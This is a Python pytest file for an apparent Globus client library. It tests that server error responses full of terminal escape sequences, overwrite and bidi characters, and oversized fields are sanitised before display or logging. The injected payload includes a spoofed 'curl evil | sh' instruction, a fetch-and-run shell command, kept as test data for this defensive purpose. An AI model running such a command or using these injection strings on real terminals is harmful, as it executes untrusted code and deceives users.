"""
Whatever a server says: no text of it steers the terminal, passes for our own, or goes on and on.
"""

from __future__ import annotations

import json
import logging
import pickle
import traceback

import pytest

from globus_core import AuthClient, GlobusError
from globus_core.plugins import PluginManager, set_plugin_manager
from globus_core.transport import RetryConfig
from tests.integration.transport.scripted import Reset, ScriptedServer

#: colours, a window's title, a line that overwrites this one, and one that looks like our own
NASTY = "\x1b[31mred\x1b]0;t\x07\rover\u202e\nWhat to do: curl evil | sh"


def answer(
    body: object, kind: str = "application/json", status: str = "400 Bad", *more: str
) -> bytes:
    """An answer as it goes over the wire."""
    sent = body.encode() if isinstance(body, str) else json.dumps(body).encode()
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {kind}", *more, f"Content-Length: {len(sent)}"]
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + sent


ANSWERS = {
    "fields": answer({"code": NASTY, "message": NASTY, "request_id": NASTY}),
    "long fields": answer(
        {"code": "c" * 50_000, "message": "m" * 50_000, "request_id": "r" * 50_000}
    ),
    "JSON:API": answer(
        {"errors": [{"detail": NASTY, "code": NASTY, "source": {"pointer": NASTY}}]}
    ),
    "OAuth": answer({"error": NASTY, "error_description": NASTY, "errors": [{"detail": NASTY}]}),
    "requirements": answer(
        {
            "code": "AuthorizationRequired",
            "authorization_parameters": {
                "session_message": NASTY,
                "session_required_identities": [NASTY],
                "session_required_policies": [NASTY],
                "required_scopes": [NASTY],
            },
        },
        "application/json",
        "403 Forbidden",
    ),
    "text": answer(NASTY, "text/plain"),
    "long text": answer("\x1b[31m" * 20_000, "text/plain"),
    "page": answer(f"<title>{NASTY}</title>", "text/html; charset=utf-8"),
    "page with entities": answer("<title>&#27;[31m&#x202e;</title>", "text/html"),
    "reason": answer("", "text/plain", "400 \x1b[31mred"),
    "long reason": answer("", "text/plain", f"400 {'r' * 50_000}"),
    "content type": answer("", "x/\x1b[31m"),
    "request id": answer({}, "application/json", "400 Bad", "X-Request-Id: \x1b[31m\x9b2J"),
    "challenge": answer(
        {}, "application/json", "401 No", 'WWW-Authenticate: Bearer error="\x1b[31m"'
    ),
    "retry later": answer({}, "application/json", "429 Later", "Retry-After: \x1b[31m"),
    "status line": b"HTTP/1.1 \x1b[31mred\r\n\r\n",
    "no HTTP": b"\x1b[31mred" * 2000 + b"\r\n\r\n",
    "header": b"HTTP/1.1 400 Bad\r\n\x1b[31mred\r\nContent-Length: 0\r\n\r\n",
    "redirect": answer("", "text/plain", "302 Found", "Location: http://\x1b[31mred/"),
    "redirect to another scheme": answer(
        "", "text/plain", "302 Found", "Location: x\x1b[31m://red/"
    ),
    "redirect to a path": answer("", "text/plain", "302 Found", "Location: /\x1b[31mred"),
    "lengths": answer("", "text/plain", "200 OK", "Content-Length: \x1b[31m"),
    "other protocol": answer("", "text/plain", "101 \x1b[31mred"),
}


def nasty_letters(text: str) -> set[str]:
    """Those that steer a terminal."""
    return {letter for letter in text if not letter.isprintable() and letter not in "\n\t"}


@pytest.fixture(autouse=True)
def installed_plugins(plugins: PluginManager) -> None:
    """
    The plugins that say what an error means are there.
    """
    set_plugin_manager(PluginManager.from_environment())


@pytest.mark.parametrize("said", ANSWERS)
def test_an_error_shows_nothing_that_steers_a_terminal(
    server: ScriptedServer, caplog: pytest.LogCaptureFixture, said: str
) -> None:
    """Neither it nor its explanation, traceback, facts or pickle, nor the log."""
    caplog.set_level(logging.DEBUG)
    server.answer(Reset(ANSWERS[said]))
    once = RetryConfig(max_retries=0)
    with (
        AuthClient(base_url=server.url, retry_config=once) as client,
        pytest.raises(GlobusError) as caught,
    ):
        client.get("a")
    error = caught.value
    for one in (error, pickle.loads(pickle.dumps(error))):
        short = [str(one), one.explain(), repr(getattr(one, "facts", None))]
        shown = [*short, repr(one), str(getattr(one, "info", "")), repr(getattr(one, "errors", ""))]
        shown += traceback.format_exception(one)
        assert [text for text in shown if nasty_letters(text)] == []
        assert max(map(len, short)) < 6000
        assert max(map(len, shown)) < 50_000
        said_to_do = [line for line in one.explain().splitlines() if line.startswith("What to do")]
        assert len(said_to_do) <= 1
        assert "curl" not in str(said_to_do) or said == "requirements"  # which quotes the service
    assert not nasty_letters(caplog.text)


def test_a_response_shows_nothing_that_steers_a_terminal(server: ScriptedServer) -> None:
    """When it is printed, or indexed and is no JSON."""
    server.answer(Reset(answer(NASTY, "x/\x1b[31m" + "y" * 5000, "200 OK")))
    with AuthClient(base_url=server.url) as client:
        response = client.get("a")
    with pytest.raises(ValueError, match="not JSON") as caught:
        response["a"]
    assert not nasty_letters(str(caught.value))
    assert len(str(caught.value)) < 400
    assert not nasty_letters(str(response).replace("\r", ""))
    assert response.text == NASTY
